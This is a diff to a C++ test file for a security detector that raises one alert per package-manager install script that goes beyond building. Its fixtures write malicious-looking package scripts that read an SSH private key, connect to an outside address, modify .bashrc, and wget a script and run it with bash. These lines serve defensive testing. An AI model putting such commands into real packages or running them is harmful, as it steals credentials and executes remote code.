@@ -1,6 +1,6 @@
 // DE15: what a package's script does beyond building its package is one alert with the package's
-// name and its manager; compiling, asking the registry and a project's own programs are none. npm
-// and pip are stand-ins under the paths of the real ones, which start scripts as those do; where
+// name and its manager; compiling, asking the registry and a project's own programs are none. The
+// managers are stand-ins under the paths of the real ones, which start scripts as those do; where
 // the machine has a real npm, that installs a local package as well.
 #include <unistd.h>
 
@@ -62,7 +62,13 @@ class DE15 : public EgressTest {
     write("/src/app/node_modules/" + name + "/postinstall", script + "\n");
   }
   void npm(const std::string& arguments) { shell("cd /src/app && /opt/node/bin/npm " + arguments); }
-  std::vector<Alert> told() { return found(*container_, "package_script"); }
+  // One each: no other rule tells the same without the package.
+  std::vector<Alert> told() {
+    const auto all = distinct(alerts_so_far(*container_));
+    for (const char* rule : {"unlisted_registry", "fetched_program", "foreign_program"})
+      EXPECT_THAT(by_rule(all, rule), IsEmpty());
+    return by_rule(all, "package_script");
+  }
   static std::string output(const Alert& alert) { return alert["output"]; }
 
   std::unique_ptr<Container> container_;
@@ -77,15 +83,20 @@ TEST_F(DE15, EachPackageIsOneAlertWithItsNameAndManager) {
   add_package("e-all",
               "cat /root/.ssh/id_ed25519 >/dev/null; contact tcp 198.51.100.7 8443; "
               "echo x >>/root/.bashrc; cat /root/.ssh/id_ed25519 >/dev/null");
+  // From a registry, so that only running it tells.
+  shell("mkdir /src/www && echo exit >/src/www/x.sh && httpd -p 203.0.113.80:8099 -h /src/www");
+  run(*container_, {"dns", "ask", "udp", "registry.npmjs.org"});
+  add_package("f-fetches", "wget -q -O x.sh http://203.0.113.80:8099/x.sh && /usr/bin/bash x.sh");
   npm("install");
   const auto alerts = told();
-  ASSERT_EQ(alerts.size(), 5u) << Alert(alerts).dump(1);
+  ASSERT_EQ(alerts.size(), 6u) << Alert(alerts).dump(1);
   const std::vector<std::pair<std::string, std::string>> expected = {
       {"a-reads", "file /root/.ssh/id_ed25519"},
       {"b-writes", "file /root/.bashrc"},
       {"c-connects", "peer 198.51.100.7 port 8443"},
       {"d-drops", "program /src/app/node_modules/d-drops/x"},
-      {"e-all", "file /root/.ssh/id_ed25519"}};
+      {"e-all", "file /root/.ssh/id_ed25519"},
+      {"f-fetches", "by bash x.sh"}};
   for (size_t i = 0; i < expected.size(); ++i) {
     EXPECT_THAT(output(alerts[i]),
                 AllOf(HasSubstr("Script of the npm package " + expected[i].first + ":"),
@@ -114,6 +125,42 @@ TEST_F(DE15, AHardLinkAndASourceFolderOfPip) {
   const auto alerts = told();
   ASSERT_EQ(alerts.size(), 1u) << Alert(alerts).dump(1);
   EXPECT_THAT(output(alerts[0]), HasSubstr("Script of the pip package pad: "));
+}
+
+// Each starts its package's script as the real one does: what is run, where, and by whom.
+TEST_F(DE15, EveryManagerIsNamedWithItsPackage) {
+  struct Case {
+    std::string manager, command, folder, package, program = "/usr/bin/cat";
+  };
+  const std::string script =
+      "/src/app/target/debug/build/pad-r-0123456789abcdef/build-script-build";
+  const std::vector<Case> cases = {
+      {"yarn", "/opt/bin/yarn install", "/src/app/node_modules/pad-y", "pad-y"},
+      {"pnpm", "/opt/bin/pnpm add x", "/src/app/node_modules/.pnpm/pad-p@1/node_modules/pad-p",
+       "pad-p"},
+      {"gem", "/opt/bin/gem install x", "/var/gems/3.1.0/gems/pad-g-1.2.0/ext/pad", "pad-g"},
+      {"composer", "/opt/bin/composer install", "/src/app/vendor/corp/pad-c", "corp/pad-c"},
+      {"cargo", "/opt/rust/bin/cargo /opt/manager build", "/src/app", "pad-r", script},
+      {"go", "/opt/go/bin/go /opt/manager generate", "/src/app/gen", "gen"}};
+  shell("mkdir -p /opt/bin /opt/rust/bin /opt/go/bin " + script.substr(0, script.rfind('/')));
+  write("/opt/manager", "#!/usr/bin/bash\n(cd $FOLDER && exec $RUN)\nexit 0\n");
+  shell(
+      "chmod +x /opt/manager; for name in yarn pnpm gem composer; do cp /opt/manager "
+      "/opt/bin/$name; "
+      "done; cp /usr/bin/bash /opt/rust/bin/cargo; cp /usr/bin/bash /opt/go/bin/go; cp "
+      "/usr/bin/cat " +
+      script);
+  for (const Case& one : cases)
+    shell(
+        fmt::format("mkdir -p {0} && cd /src/app && FOLDER={0} RUN='{1} /root/.ssh/id_ed25519' {2} "
+                    ">/dev/null",
+                    one.folder, one.program, one.command));
+  const auto alerts = told();
+  ASSERT_EQ(alerts.size(), cases.size()) << Alert(alerts).dump(1);
+  for (size_t i = 0; i < cases.size(); ++i)
+    EXPECT_THAT(
+        output(alerts[i]),
+        HasSubstr(fmt::format("Script of the {} package {}:", cases[i].manager, cases[i].package)));
 }
 
 TEST_F(DE15, BuildingAndAProjectsOwnProgramsAreSilent) {
